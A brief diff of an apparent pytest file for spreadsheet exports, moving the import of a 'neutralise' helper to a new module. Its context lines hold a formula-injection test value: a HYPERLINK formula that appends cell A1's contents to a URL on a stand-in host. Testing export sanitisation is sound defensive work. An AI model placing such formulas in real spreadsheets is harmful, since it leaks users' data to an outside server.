@@ -12,7 +12,7 @@ import openpyxl
 import pytest
 
 from exports import run as export_run
-from exports.writers import neutralise
+from lvzhi.sheets import neutralise
 from lvzhi import warehouse
 
 EVIL_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")'
